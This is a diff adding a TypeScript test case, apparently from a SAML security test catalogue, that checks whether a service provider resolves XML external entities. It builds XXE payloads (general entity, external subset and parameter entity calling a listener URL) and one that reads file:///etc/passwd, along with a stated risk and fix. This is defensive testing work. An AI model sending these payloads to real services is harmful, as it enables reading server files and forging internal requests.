@@ -1,0 +1,69 @@
+import type { CatalogueCase, Observation, PlayedRun } from '../case.ts';
+import { observe } from '../observe.ts';
+import type { ResponseSpec } from '../response-spec.ts';
+import { statusXml } from '../saml-elements.ts';
+import { signedAssertion } from '../sign-xml.ts';
+import type { Stage } from '../stage.ts';
+import { insertLast, replaceElement } from '../xml-text.ts';
+import { doctype } from './doctype.ts';
+
+/** In a StatusMessage, which is outside the signed Assertion: everything else about the message is in order. */
+function withStatusMessage(honest: ResponseSpec, declaration: string, message: string): string {
+  const text = `<samlp:StatusMessage>${message}</samlp:StatusMessage>`;
+  const status = insertLast(statusXml(), 'Status', text);
+  return declaration + replaceElement(signedAssertion(honest), 'Status', status);
+}
+
+const generalEntity = (honest: ResponseSpec, url: string) =>
+  withStatusMessage(honest, doctype(`<!ENTITY outside SYSTEM "${url}">`), '&outside;');
+
+const externalSubset = (honest: ResponseSpec, url: string) =>
+  withStatusMessage(honest, `<!DOCTYPE samlp:Response SYSTEM "${url}">`, 'none');
+
+const parameterEntity = (honest: ResponseSpec, url: string) =>
+  withStatusMessage(honest, doctype(`<!ENTITY % outside SYSTEM "${url}"> %outside;`), 'none');
+
+type Build = (honest: ResponseSpec, url: string) => string;
+
+const watched = (title: string, build: Build): PlayedRun => ({
+  title,
+  check: 'doctype',
+  play: async (stage) => {
+    const { url, hits } = await stage.listener();
+    const { seen } = await post(stage, build, `${url}/entity.txt`);
+    if (hits() === 0) return seen;
+    return { ...seen, outcome: 'hostile', note: 'The service provider fetched the entity.' };
+  },
+});
+
+async function post(stage: Stage, build: Build, url: string) {
+  const agent = await stage.newUserAgent();
+  const honest = await agent.begin();
+  const answer = await agent.post(honest, { xml: build(honest, url) });
+  const seen = await observe(agent, answer, `An entity names ${url}.`);
+  return { answer, seen };
+}
+
+/** /etc/passwd is there on every Unix, and its first line is known; on other systems the run shows less. */
+async function file(stage: Stage): Promise<Observation> {
+  const { answer, seen } = await post(stage, generalEntity, 'file:///etc/passwd');
+  if (!/root:[^\n]*:0:0:/.test(answer.body)) return seen;
+  return { ...seen, outcome: 'hostile', note: 'The answer shows a file of the server.' };
+}
+
+export const xmlExternalEntity: CatalogueCase = {
+  id: 'xml-external-entity',
+  group: 'xml',
+  title: 'An external entity',
+  severity: 'crit',
+  verdict: 'reject',
+  basis: ['CVE-2016-10127 class', 'Kantara IIP-G03', 'SAML2int SDP-G03'],
+  risk: 'Anyone, without an account, reads files of the server and makes it send requests into its own network.',
+  fix: 'Refuse any document type declaration before parsing, and give the parser neither network nor files.',
+  runs: [
+    watched('general entity, http', generalEntity),
+    watched('external subset, http', externalSubset),
+    watched('parameter entity, http', parameterEntity),
+    { title: 'general entity, file', check: 'doctype', play: file },
+  ],
+};
